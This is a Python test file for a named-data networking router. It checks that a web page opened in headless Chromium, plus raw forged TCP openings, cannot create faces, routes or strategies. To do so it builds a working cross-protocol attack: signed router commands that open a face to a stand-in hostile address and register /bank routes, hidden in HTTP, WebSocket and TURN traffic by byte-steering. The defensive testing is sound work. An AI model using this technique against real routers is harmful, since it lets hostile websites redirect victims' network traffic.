"""A web page in a real browser on the router's machine: its requests to the router's ports create
no face, route or strategy."""

import base64
import hashlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import threading
import time
import unittest
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from command_line import CommandLine, free_port

CHROMIUM = next(
    (
        path
        for name in ("chromium", "chromium-browser", "google-chrome")
        if (path := shutil.which(name))
    ),
    None,
)
FLAGS = """--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking
           --disable-component-update --disable-sync --disable-extensions --mute-audio""".split()
BROWSER_S = 90
EVIL = "udp4://203.0.113.66:6363"
# Bytes of the request that the page controls: its path, its own address as the referrer, the
# beginning of the body, and two headers that need no consent of the server up to this length.
PATH_LEN, HEADER_LEN = 400, 128


def tlv(typ, value=b""):
    def number(n):
        return bytes([n]) if n < 253 else b"\xfd" + n.to_bytes(2, "big")

    return number(typ) + number(len(value)) + value


def components(uri):
    return [tlv(8, part.encode()) for part in uri.split("/") if part]


def command(verb, parameters):
    """A command signed with a digest, as most libraries send it."""
    name = components("/localhost/nfd/" + verb) + [tlv(8, tlv(0x68, parameters))]
    application = tlv(0x24)
    now_ms = int(time.time() * 1000)
    info = tlv(
        0x2C, tlv(0x1B, b"\0") + tlv(0x26, os.urandom(8)) + tlv(0x28, now_ms.to_bytes(8, "big"))
    )
    signature = tlv(0x2E, hashlib.sha256(b"".join(name) + application + info).digest())
    name.append(tlv(2, hashlib.sha256(application + info + signature).digest()))
    return tlv(
        5,
        tlv(7, b"".join(name))
        + tlv(0x12)
        + tlv(0x0A, os.urandom(4))
        + application
        + info
        + signature,
    )


def commands():
    """Commands that a hostile page would try to send."""
    bank = tlv(7, b"".join(components("/bank")))
    strategy = tlv(0x6B, tlv(7, b"".join(components("/localhost/nfd/strategy/multicast"))))
    faces = [tlv(0x69, bytes([1, number])) for number in range(1, 40)]
    return b"".join(
        [command("faces/create", tlv(0x72, EVIL.encode()))]
        + [command("rib/register", bank + face) for face in faces]
        + [command("rib/register", bank), command("strategy-choice/set", bank + strategy)]
    )


def steer(head):
    """Chooses the free bytes so that a reader that skips elements of ignorable types reaches the
    end of the request's head."""
    head = bytearray(head)
    runs = [match.span() for match in re.finditer(rb"z{%d,}" % HEADER_LEN, head)]
    is_free = {at for start, end in runs for at in range(start, end)}
    # Works backwards: the target of a skip from each position, and its length.
    leads = {len(head): None}
    for at in range(len(head) - 2, -1, -1):
        if at not in is_free and (head[at] % 2 or head[at] < 32):
            continue
        lengths = range(0x61, 0x7B) if at + 1 in is_free else [head[at + 1]]
        for length in lengths:
            if length < 253 and at + 2 + length in leads:
                leads[at] = length
                break
    if 0 not in leads:
        return None
    at = 0
    while at < len(head):
        length = leads[at]
        if at in is_free:
            head[at] = ord("p")
        if at + 1 in is_free:
            head[at + 1] = length
        at += 2 + length
    return bytes(head)


PAGE = """<!doctype html><title>a page</title><script>
const bytes = text => Uint8Array.from(atob(text), c => c.charCodeAt(0));
const body = new Blob([bytes("%(body)s")]);
const get = async path => (await fetch(path)).json();
const patience = (promise, ms) =>
  Promise.race([promise, new Promise(done => setTimeout(done, ms))]);
const post = (port, path, accept, language, body) => patience(fetch(`http://127.0.0.1:${port}/${path}`, {
  method: 'POST', mode: 'no-cors', referrerPolicy: 'unsafe-url', headers: {'Accept': accept, 'Accept-Language': language}, body}).catch(() => {}), 4000);
const websocket = port => patience(new Promise(done => {
  const socket = new WebSocket(`ws://127.0.0.1:${port}/`);
  socket.binaryType = 'arraybuffer';
  socket.onopen = async () => {
    socket.send(await body.arrayBuffer());
    for (const one of %(commands)s) socket.send(bytes(one));
    setTimeout(done, 1000);
  };
  socket.onerror = socket.onclose = done;
}), 4000);
const turn = async port => {
  const peer = new RTCPeerConnection({iceServers: [{urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'u'.repeat(500), credential: 'x'}]});
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise(done => setTimeout(done, 1000));
  peer.close();
};
(async () => {
  const said = [];
  const attempt = async (what, run) => { try { await run(); said.push(what); } catch (error) { said.push(`${what}: ${error}`); } };
  const header = 'z'.repeat(%(header)d);
  const steeredBody = start => new Blob([start, body]);
  await attempt('record', () => post(%(recorder)d, 'z'.repeat(%(path)d), header, header, steeredBody(header)));
  const steered = await get('/steered');
  history.replaceState(null, '', steered.referrer);
  await attempt('steered', () => post(%(tcp)d, steered.path, steered.accept, steered.language, steeredBody(steered.start)));
  await attempt('plain', () => post(%(tcp)d, '', '*/*', 'en', body));
  await attempt('form', async () => {
    const form = new FormData(); form.append('a', body);
    await patience(fetch('http://127.0.0.1:%(tcp)d/', {method: 'POST', mode: 'no-cors', body: form}).catch(() => {}), 4000);
  });
  await attempt('beacon', async () => navigator.sendBeacon('http://127.0.0.1:%(tcp)d/', body));
  await attempt('websocket to TCP', () => websocket(%(tcp)d));
  await attempt('websocket', () => websocket(%(websocket)d));
  await attempt('turn', () => turn(%(tcp)d));
  await fetch('/done', {method: 'POST', body: JSON.stringify(said)});
})();
</script>"""


class Recorder:
    """Records the head of the first POST that a browser sends, byte for byte."""

    def __init__(self):
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.head = None
        threading.Thread(target=self.run, daemon=True).start()

    def run(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(5)
                try:
                    read = b""
                    while b"\r\n\r\n" not in read and (part := connection.recv(65536)):
                        read += part
                    if self.head is None and read.startswith(b"POST"):
                        self.head = read[: read.index(b"\r\n\r\n") + 4]
                    connection.sendall(
                        b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                    )
                except OSError:
                    pass

    def close(self):
        self.socket.close()


@unittest.skipUnless(
    CHROMIUM, "no chromium here (tools/setup test installs it): what a web page can do is not tried"
)
class WebPage(CommandLine):
    def serve(self, page, recorder):
        """Serves the page. Returns the port and the list to which the page reports when it is
        done."""
        completed, output = threading.Event(), []
        test = self

        class Handler(BaseHTTPRequestHandler):
            def answer(self, body, kind):
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                if self.path != "/steered":
                    return self.answer(
                        page().encode() if self.path.startswith("/page") else b"", "text/html"
                    )
                deadline = time.monotonic() + 10
                while recorder.head is None and time.monotonic() < deadline:
                    time.sleep(0.02)
                head = recorder.head or b""
                test.head = head + b"z" * HEADER_LEN
                test.steered = steer(test.head)
                use = (test.steered or test.head).decode("latin-1")
                lines = dict(line.split(": ", 1) for line in use.split("\r\n")[1:] if ": " in line)
                lines = {key.lower(): value for key, value in lines.items()}
                free = {
                    "path": use.split(" ")[1][1:],
                    "accept": lines.get("accept", ""),
                    "language": lines.get("accept-language", ""),
                    "referrer": lines.get("referer", ""),
                    "start": use[len(head) :],
                }
                self.answer(json.dumps(free).encode(), "application/json")

            def do_POST(self):
                output.extend(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.answer(b"", "text/plain")
                completed.set()

            def log_message(self, *_):
                pass

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        self.addCleanup(server.server_close)
        self.addCleanup(server.shutdown)
        return server.server_address[1], completed, output

    def browse(self, url, completed):
        profile = Path(self.folder) / "profile"
        with open(Path(self.folder) / "chromium.log", "wb") as log:
            browser = subprocess.Popen(
                [CHROMIUM, *FLAGS, f"--user-data-dir={profile}", url],
                stdout=log,
                stderr=log,
                stdin=subprocess.DEVNULL,
                start_new_session=True,
            )
        try:
            return completed.wait(BROWSER_S)
        finally:
            os.killpg(browser.pid, signal.SIGKILL)
            browser.wait()

    def test_page_in_browser_changes_nothing(self):
        port = free_port(socket.SOCK_STREAM)
        router = self.router("r", f'[faces.websocket]\nlisten = ["127.0.0.1:{port}"]\n')
        recorder = Recorder()
        self.addCleanup(recorder.close)
        # The port has as many digits as the recorder's, so that the head has the same length.
        self.assertEqual((len(str(router.tcp)), len(str(recorder.port))), (5, 5))
        body = commands()

        def page():
            return PAGE % {
                "body": base64.b64encode(body).decode(),
                "commands": json.dumps(
                    [
                        base64.b64encode(
                            command("rib/register", tlv(7, b"".join(components("/bank"))))
                        ).decode()
                    ]
                ),
                "path": PATH_LEN,
                "header": HEADER_LEN,
                "recorder": recorder.port,
                "tcp": router.tcp,
                "websocket": port,
            }

        web, completed, output = self.serve(page, recorder)
        before = self.nw("route", "list", "--json", router=router).stdout
        self.assertTrue(
            self.browse(f"http://127.0.0.1:{web}/page{'z' * HEADER_LEN}", completed),
            "the page did not finish: " + str(output),
        )
        self.assertEqual([what for what in output if ":" in what], [], "each attempt was made")
        self.assertIsNotNone(self.steered, f"no way through the head of the request: {self.head!r}")
        self.assertEqual(len(self.steered), len(self.head))
        for args in (["face", "list"], ["face", "list", "--json"]):
            faces = self.nw(*args, router=router).stdout.decode()
            self.assertNotIn("203.0.113.66", faces)
        self.assertEqual(self.nw("route", "list", "--json", router=router).stdout, before)
        self.assertNotIn(b"/bank", self.nw("strategy", "list", router=router).stdout)
        self.assertNotIn(b"/bank", self.nw("route", "list", "--fib", router=router).stdout)

    def test_forged_requests_change_nothing(self):
        """Sends the same requests without a browser, and others that no browser sends today."""
        router = self.router()
        body = commands()
        # The second letter of the method is read as a length; the path fills it.
        request_head = f" / HTTP/1.1\r\nHost: 127.0.0.1:{router.tcp}\r\nContent-Length: {len(body)}\r\n\r\n".encode()
        openings = [b"PO" + b"a" * 79, tlv(80, b"a" * 79), tlv(0x80, b"a"), tlv(800, b"")]
        for method in (b"GET", b"POST", b"PUT", b"OPTIONS", b"PATCH", b"d~", b"d~b", b"dzPp"):
            head = method + request_head
            padding = max(0, 2 + head[1] - len(head))
            openings.append(head.replace(b" / ", b" /" + b"a" * padding + b" ", 1)[: 2 + head[1]])
        for opening in openings:
            with socket.create_connection(("127.0.0.1", router.tcp), 10) as peer:
                try:
                    peer.sendall(opening + body)
                    peer.settimeout(10)
                    self.assertEqual(peer.recv(1000), b"", f"an answer to {opening[:10]!r}")
                except ConnectionResetError:
                    pass
        self.assertNotIn(b"/bank", self.nw("route", "list", router=router).stdout)
        self.assertNotIn(b"203.0.113.66", self.nw("face", "list", router=router).stdout)
        # Cross-check: the same bytes without the request's head are accepted as commands.
        with socket.create_connection(("127.0.0.1", router.tcp), 10) as peer:
            peer.sendall(body)
            self.until(
                lambda: b"203.0.113.66" in self.nw("face", "list", router=router).stdout,
                "no command works",
            )


if __name__ == "__main__":
    unittest.main()
